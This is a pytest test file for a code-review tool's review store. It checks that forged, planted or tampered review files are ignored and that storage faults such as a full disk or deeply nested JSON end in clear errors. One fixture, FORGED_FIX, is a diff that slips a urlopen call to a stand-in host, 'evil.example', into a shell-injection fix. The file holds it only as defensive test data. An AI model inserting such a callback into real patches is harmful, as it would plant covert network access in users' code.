"""A committed or planted ``.deep-review/`` is not the tool's: the store trusts only what it wrote.

Also the store's faults: two reviews in one second, ``reviews/`` being a file, a full disk and
absurdly deep JSON each end in a clear message, never a traceback or a lost review.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from deep_review.cli import main
from deep_review.model import ReconciledFinding, Review, ReviewHeader
from deep_review.report.files import renderer_for
from deep_review.store import ReviewStore
from tests.hostile.scenario import project
from tests.support.gitrepo import GitRepo

REAL_FIX = """\
--- a/app.py
+++ b/app.py
@@ -5,3 +5,3 @@
 def run(cmd):
     import os
-    os.system(cmd)
+    os.system(shlex.quote(cmd))
"""

FORGED_FIX = """\
--- a/app.py
+++ b/app.py
@@ -5,3 +5,3 @@
 def run(cmd):
     import os
-    os.system(cmd)
+    os.system(cmd); __import__("urllib.request").request.urlopen("http://evil.example")
"""


def review_with_fix(fix: str, date: datetime) -> Review:
    finding = ReconciledFinding(
        id="C1",
        path="app.py",
        start_line=5,
        end_line=7,
        severity="critical",
        category="regression",
        title="Shell injection through run()",
        evidence="os.system(cmd)",
        fix=fix,
    )
    return Review(header=ReviewHeader(date=date, branch="feature"), findings=[finding])


@pytest.fixture
def reviewed(repo: GitRepo) -> GitRepo:
    """The feature branch with a real review the tool saved."""
    project(repo)
    ReviewStore(repo.root).save_review(
        review_with_fix(REAL_FIX, datetime(2026, 12, 1, 9, 0, tzinfo=UTC))
    )
    return repo


def dry_run(repo: GitRepo) -> int:
    return main(["apply", "C1", "--dry-run", "--repo", str(repo.root)])


def test_a_committed_future_dated_review_does_not_shadow_the_real_one(
    reviewed: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    forged = review_with_fix(FORGED_FIX, datetime(2099, 12, 31, 23, 59, tzinfo=UTC))
    planted = ".deep-review/reviews/20991231-235959-feature.json"
    reviewed.write(planted, forged.model_dump_json())
    # A seal of its own, at the name the store would look for: without the key it cannot match.
    seal_name = hashlib.sha256(b"reviews/20991231-235959-feature.json").hexdigest()[:40]
    forged_seal = f".deep-review/.seals/{seal_name}.mac"
    reviewed.write(forged_seal, "0" * 64 + "\n")
    reviewed.git("add", "-f", planted, forged_seal)
    reviewed.git("commit", "-q", "-m", "a branch that ships its own review")

    assert dry_run(reviewed) == 0

    out, err = capsys.readouterr()
    assert "shlex.quote" in out
    assert "evil.example" not in out
    assert "20991231-235959-feature.json" in err and "committed to git" in err


def test_a_planted_untracked_review_is_ignored(
    reviewed: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    forged = review_with_fix(FORGED_FIX, datetime(2099, 1, 1, tzinfo=UTC))
    reviewed.write(".deep-review/reviews/20990101-000000-feature.json", forged.model_dump_json())

    assert dry_run(reviewed) == 0

    out, err = capsys.readouterr()
    assert "evil.example" not in out and "shlex.quote" in out
    assert "did not write it on this machine" in err


def test_a_review_edited_after_it_was_saved_is_ignored(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    project(repo)
    saved = ReviewStore(repo.root).save_review(
        review_with_fix(REAL_FIX, datetime(2026, 12, 1, 9, 0, tzinfo=UTC))
    )["json"]
    saved.write_text(saved.read_text().replace("shlex.quote(cmd)", "cmd); evil.example("))

    assert dry_run(repo) == 2

    captured = capsys.readouterr()
    assert "evil.example" not in captured.out
    assert "its seal does not match" in captured.err
    assert "Traceback" not in captured.err


def test_two_reviews_in_the_same_second_keep_both(repo: GitRepo) -> None:
    project(repo)
    store = ReviewStore(repo.root)
    first = review_with_fix(REAL_FIX, datetime(2026, 12, 1, 9, 0, 0, 100, tzinfo=UTC))
    second = review_with_fix(FORGED_FIX, datetime(2026, 12, 1, 9, 0, 0, 900, tzinfo=UTC))

    first_paths = store.save_review(first, renderer_for(["md"]))
    second_paths = store.save_review(second, renderer_for(["md"]))
    again = store.save_review(first, renderer_for(["html"]))  # re-saving a review reuses its name

    assert first_paths["json"] != second_paths["json"]
    assert second_paths["json"].name == "20261201-090000-feature+2.json"
    assert again["json"] == first_paths["json"]
    assert [r.header.date for r in store.reviews()] == [first.header.date, second.header.date]
    assert store.latest_review() == second
    assert store.latest_paths() == {"json": second_paths["json"], "md": second_paths["md"]}
    assert store.stem_of(first) == first_paths["json"].with_suffix("")


def test_two_processes_saving_in_the_same_second_keep_both(repo: GitRepo) -> None:
    project(repo)
    script = (
        "import sys\n"
        "from datetime import UTC, datetime\n"
        "from pathlib import Path\n"
        "from deep_review.model import Review, ReviewHeader\n"
        "from deep_review.store import ReviewStore\n"
        "micro = int(sys.argv[2])\n"
        "for n in range(10):\n"
        "    date = datetime(2026, 12, 1, 9, 0, 0, micro + n, tzinfo=UTC)\n"
        "    review = Review(header=ReviewHeader(date=date, branch='feature'))\n"
        "    ReviewStore(Path(sys.argv[1])).save_review(review)\n"
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    workers = [
        subprocess.Popen([sys.executable, "-c", script, str(repo.root), str(start)], env=env)
        for start in (1000, 2000)
    ]
    assert [worker.wait(timeout=120) for worker in workers] == [0, 0]

    dates = {r.header.date.microsecond for r in ReviewStore(repo.root).reviews()}
    assert dates == {*range(1000, 1010), *range(2000, 2010)}


def test_reviews_being_a_file_is_a_clear_error_before_anything_runs(
    repo: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    project(repo)
    repo.write(".deep-review/reviews", "not a folder\n")

    code = main(["review", "--repo", str(repo.root), "--reviewers", "ruff"])

    err = capsys.readouterr().err
    assert code == 2
    assert "reviews is a file, not a folder" in err
    assert "Traceback" not in err
    assert (repo.root / ".deep-review" / "reviews").read_text() == "not a folder\n"


def test_a_deep_json_file_in_the_store_is_skipped_not_a_crash(
    reviewed: GitRepo, capsys: pytest.CaptureFixture[str]
) -> None:
    store = ReviewStore(reviewed.root)
    deep = "[" * 200_000 + "]" * 200_000
    for name in ("20990101-000000-feature.json", "20990102-000000-feature.json"):
        path = store.reviews_dir / name
        path.write_text(deep)
    # One of them as if the store itself had written it: the parser must still cope.
    store.trust.seal(store.reviews_dir / "20990102-000000-feature.json", deep.encode())

    assert dry_run(reviewed) == 0

    out, err = capsys.readouterr()
    assert "shlex.quote" in out
    assert "nested too deeply" in err
    assert "RecursionError" not in err and "Traceback" not in err


@pytest.fixture
def tiny_store_disk(repo: GitRepo) -> Iterator[Path]:
    """``.deep-review`` on an 8 KiB tmpfs (needs root to mount; skipped, saying so, elsewhere)."""
    project(repo)
    store = repo.root / ".deep-review"
    store.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=8k", "tmpfs", str(store)],
        capture_output=True,
        check=False,
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tiny tmpfs here to fill the disk: {mounted.stderr!r}")
    try:
        yield store
    finally:
        subprocess.run(["umount", "-l", str(store)], check=False)


def test_a_full_disk_is_a_clear_error_and_the_review_is_still_shown(
    repo: GitRepo, tiny_store_disk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo.write("app.py", repo.root.joinpath("app.py").read_text() + "import sys\n")

    code = main(["review", "--repo", str(repo.root), "--reviewers", "ruff", "--format", "md"])

    out, err = capsys.readouterr()
    assert code == 2
    assert "no space left on the device" in err
    assert "F401" in out  # the panel's findings are shown even though they could not be saved
    assert "Traceback" not in err
    leftovers = [p.name for p in tiny_store_disk.rglob("*.tmp")]
    assert leftovers == []


def test_reviews_from_the_store_are_valid_json_the_tool_can_read_back(reviewed: GitRepo) -> None:
    store = ReviewStore(reviewed.root)
    latest = store.latest_review()
    assert latest is not None
    saved = store.latest_paths()["json"]
    assert Review.model_validate(json.loads(saved.read_text())) == latest
    assert store.ignored == {}


def test_a_deep_json_file_given_on_the_command_line_is_a_clear_error(
    reviewed: GitRepo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 200_000 + "]" * 200_000)

    code = main(["reconcile", str(deep), "--repo", str(reviewed.root)])

    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith("deep-review: ") and "Traceback" not in err


def test_reading_a_planted_store_creates_nothing(repo: GitRepo) -> None:
    project(repo)
    forged = review_with_fix(FORGED_FIX, datetime(2099, 1, 1, tzinfo=UTC))
    repo.write(".deep-review/reviews/20990101-000000-feature.json", forged.model_dump_json())
    store = ReviewStore(repo.root)

    assert store.latest_review() is None

    assert not store.trust.key_path().exists()  # a read never needs (or makes) the key
    assert list(store.ignored.values()) == [
        "deep-review did not write it on this machine (it has no seal)"
    ]
